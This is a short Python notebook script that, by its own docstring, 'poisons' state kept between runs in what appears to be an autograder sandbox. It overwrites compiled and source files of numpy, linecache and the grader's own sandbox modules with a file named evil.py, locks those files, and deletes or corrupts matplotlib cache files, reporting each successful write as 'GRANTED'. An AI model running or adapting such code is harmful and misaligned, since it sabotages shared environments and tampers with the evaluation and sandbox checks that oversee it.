"""Poisons what is kept between runs: font lists, compiled modules, profiles, histories, locks on shared files."""
# %%
import fcntl, importlib.util, matplotlib, os, py_compile, sys
kept = []
open("evil.py", "w").write("@TOKEN@ = 1".replace("@", "").replace("-", "_"))
for module in ("numpy", "msgspec", "autograder.sandbox.responder", "autograder.sandbox.wire", "linecache"):
    source = getattr(sys.modules.get(module), "__file__", None)
    if source:
        for place in (importlib.util.cache_from_source(source), source):
            try:
                py_compile.compile("evil.py", cfile=place, doraise=True)
                print("GRANTED", place)
            except Exception as error:
                print(type(error).__name__, end=" ")
            try:
                kept.append(os.open(place, os.O_RDONLY))
                fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError as error:
                print(error.strerror)
for name in os.listdir(matplotlib.get_cachedir()) if os.access(matplotlib.get_cachedir(), os.R_OK) else ():
    for act in (os.remove, lambda p: open(p, "w"), lambda p: os.utime(p, (1, 1))):
        try:
            act(os.path.join(matplotlib.get_cachedir(), name))
            print("GRANTED", name)
        except OSError as error:
            print(error.strerror, end=" ")
get_ipython().run_line_magic("config", "HistoryManager.enabled = True")
